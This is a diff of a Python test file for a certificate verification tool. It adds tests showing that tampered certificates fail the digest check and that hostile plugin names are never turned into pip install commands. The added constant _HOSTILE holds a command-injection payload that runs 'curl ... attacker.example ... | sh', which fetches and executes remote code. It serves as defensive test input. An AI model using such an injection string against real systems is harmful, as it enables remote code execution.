@@ -57,8 +57,8 @@ def test_a_deleted_comma_in_window_ids_is_an_integrity_failure(raw: bytes, tmp_p
     start, end = _section(raw, b'"window_ids"')
     comma = start + next(re.finditer(rb"[1-9][0-9]*,[1-9]", raw[start:end])).end() - 2  # 26,73 -> 2673
     code, report = _cli(tmp_path, raw[:comma] + raw[comma + 1 :])
-    assert code == 3
-    assert any(ch["name"] == "evidence" and not ch["ok"] for ch in report["checks"])
+    failed = [ch["name"] for ch in report["checks"] if not ch["ok"]]
+    assert code == 3 and failed == ["digest", "recompute"]  # altered after issue: nothing in it is used
 
 
 @pytest.mark.parametrize("depth", [c.MAX_NESTING + 1, 1000, 100_000])
@@ -196,3 +196,43 @@ def test_a_certificate_cut_short_is_said_to_be_cut_short(raw: bytes, cut: str) -
         c.from_bytes(data)
     assert refused.value.code == "E601"
     assert refused.value.message == "schema check failed: certificate is not valid JSON: Input data was truncated"
+
+
+_HOSTILE = 'evil 1" && curl -s http://attacker.example/x | sh && echo "'
+
+
+def _edited(raw: bytes, edit, *, reseal: bool) -> bytes:  # type: ignore[no-untyped-def]
+    data = json.loads(raw)
+    edit(data)
+    cert = msgspec.convert(data, c.Certificate)
+    return c.to_bytes(c.seal(cert) if reseal else cert)
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        lambda d: d["provenance"]["environment"].update({"plugin.guards.evil": _HOSTILE}),
+        lambda d: d["provenance"]["environment"].update({"plugin.metrics.ppl_causal": _HOSTILE}),
+        lambda d: d["policy"]["resolved"].update({"replicates": 10**6}),
+    ],
+)
+def test_an_altered_certificate_is_an_integrity_failure_before_anything_it_names_is_acted_on(
+    raw: bytes, tmp_path: Path, edit
+) -> None:  # type: ignore[no-untyped-def]
+    """Its digest is checked first: a plugin it names is not asked for (E222, exit 2, with its text as a command to
+    run) and its bootstrap's size is not refused as the recipient's input (E607)."""
+    code, report = _cli(tmp_path, _edited(raw, edit, reseal=False))
+    failed = [ch["name"] for ch in report["checks"] if not ch["ok"]]
+    assert code == 3 and failed == ["digest", "recompute"], report
+    assert "curl" not in json.dumps(report)
+
+
+def test_a_plugin_named_in_no_package_form_is_not_offered_as_a_command(raw: bytes, tmp_path: Path) -> None:
+    """An issuer's own (sealed) certificate naming a hostile 'distribution': E222 without a pip command."""
+    edit = lambda d: d["provenance"]["environment"].update({"plugin.guards.evil": _HOSTILE})  # noqa: E731
+    path = tmp_path / "evaluation.cert.json"
+    path.write_bytes(_edited(raw, edit, reseal=True))
+    result = CliRunner().invoke(cli, ["verify", str(path)])
+    error = result.exception
+    assert isinstance(error, UsageError) and error.code == "E222", result.output
+    assert "pip install" not in error.hint and "not a package name and version" in error.hint
